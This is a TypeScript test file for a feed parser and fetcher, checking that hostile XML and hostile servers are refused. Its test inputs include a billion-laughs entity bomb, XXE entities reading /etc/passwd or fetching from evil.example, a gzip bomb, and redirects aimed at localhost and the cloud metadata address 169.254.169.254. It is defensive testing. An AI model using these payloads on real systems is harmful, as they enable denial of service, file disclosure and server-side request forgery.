import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseFeed } from '../../../src/networks/feeds/parse.js';
import { Unreadable } from '../../../src/networks/feeds/unreadable.js';
import { poll, request } from '../../helpers/adapter.js';
import { feedOf, onPublisher } from './publisher.js';

const parse = (document: string) => parseFeed(document, 'https://blog.example/feed');
const rss = (item: string) => `<rss version="2.0"><channel><item>${item}</item></channel></rss>`;

const LAUGHS = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from(
  { length: 9 },
  (_, level) => `<!ENTITY lol${level + 1} "${`&lol${level || ''};`.repeat(10)}">`,
).join('')}]>${rss('<title>&lol9;</title>')}`;

describe('a hostile document', () => {
  it.each([
    ['a bomb of entities', LAUGHS, /entities/],
    [
      'one long entity, often',
      `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(50_000)}">]>${rss('&a;'.repeat(50_000))}`,
      /entities/,
    ],
    [
      'a file of this machine',
      `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${rss('<title>&x;</title>')}`,
      /entities/,
    ],
    [
      'entities from elsewhere',
      `<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>${rss('')}`,
      /entities/,
    ],
    ['entities without a DOCTYPE', `<!ENTITY a "b">${rss('<title>&a;</title>')}`, /entities/],
    ['elements without end', `<rss>${'<a>'.repeat(100_000)}`, /too many/],
    ['more elements than any feed has', `<rss>${'<a/>'.repeat(300_000)}</rss>`, /too many/],
    ['half a document', `${rss('<title>x</title>').slice(0, -20)}`, /cut short/],
    ['a web page', '<!DOCTYPE html><html><head><title>x</title></head></html>', /web page/],
    ['another kind of XML', '<svg xmlns="http://www.w3.org/2000/svg"><title>x</title></svg>', /no feed/],
    ['no XML', 'Service unavailable', /no XML/],
    ['nothing', ' \n ', /empty/],
    ['broken JSON', '{"version": "https://jsonfeed.org/version/1", "items": [', /broken/],
    ['other JSON', '{"error": "no"}', /no JSON Feed/],
  ])('is refused: %s', (_, document, why) => {
    expect(() => parse(document)).toThrow(
      expect.objectContaining({ name: 'Unreadable', message: expect.stringMatching(why) }),
    );
  });

  it('of which a page names the feed leads there', () => {
    const page = `<html><head><link rel="stylesheet" href="/x"><LINK REL='alternate' TYPE='application/rss+xml' HREF='/feed.xml'></head></html>`;
    expect(() => parse(page)).toThrow(
      expect.objectContaining({ hint: expect.stringContaining('https://blog.example/feed.xml') }),
    );
  });

  it('never loads or expands anything that only looks like an entity', () => {
    const [entry] = parse(
      `<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd">${rss('<title>&xxe; &#x41;</title>')}`,
    ).entries;
    expect(entry?.title).toBe('&xxe; A');
  });

  it('is a feed or unreadable, whatever it is', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        '<rss>',
        '<channel>',
        '<item>',
        '<title>',
        '</title>',
        '</item>',
        '</rss>',
        '<feed xmlns="http://www.w3.org/2005/Atom">',
      ),
      fc.constantFrom(
        '<entry>',
        '<link href="',
        '"/>',
        '<![CDATA[',
        ']]>',
        '<!--',
        '-->',
        '<?xml',
        '?>',
        '<!DOCTYPE',
        '[',
        '&#0;',
        '&#xFFFFFFFF;',
      ),
      fc.constantFrom(
        'xmlns:a="__proto__"',
        '<__proto__:constructor toString="x">',
        '<constructor>',
        '{"version":',
        '\0',
        '\uD800',
        'سلام',
      ),
      fc.string({ unit: 'binary', maxLength: 20 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        try {
          for (const { title, link } of parse(pieces.join('')).entries) {
            expect(typeof title).toBe('string');
            if (link !== null) expect(link).toMatch(/^https?:/);
          }
        } catch (error) {
          expect(error).toBeInstanceOf(Unreadable);
        }
      }),
      { numRuns: 1_000 },
    );
  });
});

describe('a hostile server', () => {
  it('that sends fifty megabytes is cut off, and not asked again', async () => {
    let sent = 0;
    const chunk = Buffer.alloc(64 * 1024, '<item/>');
    function* endless() {
      for (let made = 0; made < 800; made += 1) {
        sent += chunk.length;
        yield chunk;
      }
    }
    const { server, network } = await onPublisher(() => ({ stream: endless() }));
    await expect(poll(network, request('mentions'))).rejects.toMatchObject({
      networkKind: 'rejected',
      message: expect.stringContaining('more than earshot reads'),
    });
    expect(sent).toBeLessThan(30_000_000);
    expect(server.requests()).toEqual({ feed: 1 });
  });

  it('that sends a compressed bomb is cut off too', async () => {
    const bomb = gzipSync(Buffer.alloc(40_000_000, ' '));
    const { network } = await onPublisher(() => ({
      headers: { 'content-encoding': 'gzip' },
      stream: [bomb],
    }));
    await expect(poll(network, request('mentions'))).rejects.toMatchObject({ networkKind: 'rejected' });
  });

  it.each<[string, string, string[], RegExp | null]>([
    [
      'follows five',
      'https://a.example/',
      ['https://b.example/1', 'https://b.example/2', '/3', '/4', '/5'],
      null,
    ],
    ['follows no sixth', 'https://a.example/', ['/1', '/2', '/3', '/4', '/5', '/6'], /too often/],
    [
      'goes round in circles',
      'https://a.example/',
      Array.from({ length: 9 }, (_, hop) => `/${hop % 2}`),
      /too often/,
    ],
    ['goes from http to https', 'http://a.example/', ['https://a.example/'], null],
    ['never from https to http', 'https://a.example/', ['http://a.example/'], /https to http/],
    [
      'never into this machine',
      'https://a.example/',
      ['https://b.example/', 'https://127.0.0.1/'],
      /network of this machine/,
    ],
    [
      'nor by another way to write it',
      'http://a.example/',
      ['http://0x7f000001/'],
      /network of this machine/,
    ],
    [
      'nor to what clouds keep there',
      'http://a.example/',
      ['http://169.254.169.254/latest'],
      /network of this machine/,
    ],
    ['but on this machine if the feed is there', 'http://127.0.0.1:8080/', ['http://127.0.0.1:8081/x'], null],
    ['never to files', 'https://a.example/', ['file:///etc/passwd'], /no web address/],
    ['never with a password', 'https://a.example/', ['https://me:pw@b.example/'], /password/],
    ['never nowhere', 'https://a.example/', ['http://'], /nowhere/],
  ])('that redirects: earshot %s', async (_, start, hops, refusal) => {
    const asked: string[] = [];
    const fetch = async (input: URL | string) => {
      const location = hops[asked.length];
      asked.push(String(input));
      if (location !== undefined) return new Response(null, { status: 302, headers: { location } });
      return new Response(feedOf([{ id: '1', text: 'found' }]));
    };
    const { network } = await onPublisher(() => ({}), { fetch, account: { url: start } });
    if (refusal === null) {
      expect((await poll(network, request('mentions'))).mentions).toMatchObject([{ text: 'found' }]);
      expect(asked).toHaveLength(hops.length + 1);
    } else {
      const error = { networkKind: 'rejected', message: expect.stringMatching(refusal) };
      await expect(poll(network, request('mentions'))).rejects.toMatchObject(error);
      expect(asked.length).toBeLessThanOrEqual(6);
      expect(asked.filter((url) => /127\.|169\.|^file/.test(url))).toEqual([]);
    }
  });
});
